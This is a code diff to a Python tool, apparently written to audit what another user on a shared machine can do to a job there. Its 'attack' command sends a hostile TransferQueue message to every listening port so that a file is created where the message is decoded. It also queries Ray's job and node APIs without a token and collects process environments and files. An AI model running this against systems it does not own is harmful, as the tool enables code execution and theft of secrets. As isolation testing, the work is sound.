@@ -1,11 +1,11 @@
 """What another user of a machine can do to a job there. Prints what succeeded, as JSON.
 
     python stranger.py reach HOST:PORT ...              which accept a connection
-    python stranger.py attack ADDRESS FILE FOLDER ...   at all ports that listen here, and in these folders
+    python stranger.py attack HEAD:PORT FILE FOLDER ... at all ports that listen here, and in these folders
     python stranger.py listen ADDRESS PORT SECONDS      what is sent to this port
 
-`attack` sends a hostile message of TransferQueue's to each port, which makes FILE where it is decoded, and asks for Ray's nodes
-and over HTTP, each without a token; it reads what it may of processes and files.
+`attack` sends a hostile message of TransferQueue's to each port, which makes FILE where it is decoded, asks each over HTTP for
+Ray's jobs and the head for its nodes, without a token, and reads what it may of processes and files.
 """
 
 import json
@@ -13,7 +13,8 @@ import os
 import socket
 import sys
 import time
-from http.client import HTTPConnection
+from concurrent.futures import ThreadPoolExecutor
+from http.client import HTTPConnection, HTTPException
 from pathlib import Path
 
 from ray._raylet import GcsClient
@@ -53,7 +54,7 @@ def answered(address: str, port: int, path: str) -> int | None:
     try:
         connection.request("GET", path)
         return connection.getresponse().status
-    except (OSError, ValueError, Exception):
+    except (OSError, HTTPException):
         return None
     finally:
         connection.close()
@@ -88,14 +89,16 @@ def files(folders: list[str]) -> list[str]:
     return found
 
 
-def attack(address: str, file: str, folders: list[str]) -> dict:
+def attack(head: str, file: str, folders: list[str]) -> dict:
+    address, _, port = head.rpartition(":")
     listening = ports()
-    for port in listening:
-        send(address, port, file)
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        list(pool.map(lambda each: send(address, each, file), listening))
+        statuses = dict(zip(listening, pool.map(lambda each: answered(address, each, "/api/jobs/"), listening), strict=True))
     return {
         "ports": listening,
-        "ray": [port for port in listening if ray_nodes(address, port)],
-        "jobs": {port: status for port in listening if (status := answered(address, port, "/api/jobs/"))},
+        "ray": ray_nodes(address, int(port)),
+        "jobs": {each: status for each, status in statuses.items() if status},
         "environments": environments(),
         "files": files(folders),
     }
